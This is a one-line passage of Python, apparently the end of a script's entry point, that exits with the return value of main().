    sys.exit(main())
